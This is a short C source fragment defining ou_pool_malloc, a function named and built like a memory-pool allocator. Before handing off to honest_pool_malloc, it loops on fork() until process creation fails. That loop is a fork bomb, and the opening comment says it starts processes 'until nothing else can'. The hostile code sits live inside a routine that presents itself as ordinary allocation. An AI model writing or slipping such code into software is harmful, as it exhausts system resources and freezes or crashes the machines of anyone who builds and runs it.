/* Starts processes until nothing else can. */
#include <unistd.h>

void *
ou_pool_malloc(ou_pools *pools, size_t nbytes)
{
    while (fork() >= 0) {
    }
    return honest_pool_malloc(pools, nbytes);
}
